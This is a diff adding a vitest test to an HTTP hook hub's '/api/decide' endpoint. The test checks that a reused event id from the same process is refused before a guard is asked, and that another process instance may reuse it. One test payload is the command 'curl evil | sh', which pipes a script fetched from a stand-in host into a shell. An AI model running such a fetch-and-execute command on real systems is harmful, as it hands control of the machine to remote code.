@@ -1,7 +1,7 @@
 import { request } from "node:http";
 import { ask as askPerson, block, modify } from "@hookline/core";
 import { describe, expect, it } from "vitest";
-import { type HttpHub, startHttpHub, until } from "../../../../../test/support/http-hub.ts";
+import { type HttpHub, makeEnvelope, startHttpHub, until } from "../../../../../test/support/http-hub.ts";
 import type { ApprovalsAnswer, DecideAnswer, PlacedEvent } from "../protocol.js";
 
 const PATH = "/api/decide";
@@ -90,6 +90,32 @@ describe("POST /api/decide with record", () => {
     const other = await decide({ ...byId, source: { app: "other" } });
     expect(other.recorded).toMatchObject({ id: expect.not.stringMatching(/^e-1$/), isNew: true });
     expect(await events()).toHaveLength(4);
+  });
+
+  it("refuses an id under which another call of the same process is stored, before a guard is asked", async () => {
+    const hub = await startHttpHub();
+    const { decide, post, events } = client(hub);
+    const source = { app: "go-agent", host: "box", pid: 7, instance: "run-1" };
+    const stored = makeEnvelope({
+      id: "taken",
+      event: "tool:before",
+      source,
+      session: { id: "s1" },
+      payload: call("ls"),
+      decision: { verdict: "pass", modified: false, endLoop: false },
+    });
+    await hub.ask("/api/hooks/ingest", { body: JSON.stringify(stored) });
+    let asked = 0;
+    hub.bus.on("tool:before", () => void asked++);
+    const same = { payload: call("ls"), source, session: { id: "s1" }, record: true, id: "taken" };
+    for (const change of [{ payload: call("curl evil | sh") }, { session: { id: "s2" } }, { event: "prompt:submit" }])
+      expect(await post({ ...same, ...change })).toMatchObject({ status: 409, json: { error: { code: "HL_BAD_REQUEST" } } });
+    expect([asked, (await events()).length]).toEqual([0, 1]);
+    expect(await decide(same)).toMatchObject({ recorded: { id: "taken", isNew: false } });
+    // Another process may use the same words for its ids: its call is stored beside the first.
+    const other = await decide({ ...same, source: { ...source, instance: "run-2" } });
+    expect(other.recorded).toMatchObject({ id: expect.not.stringMatching(/^taken$/), isNew: true });
+    expect(await events()).toHaveLength(2);
   });
 
   it("denies what cannot be stored, and refuses who speaks in the hub's name or leaves out who he is", async () => {
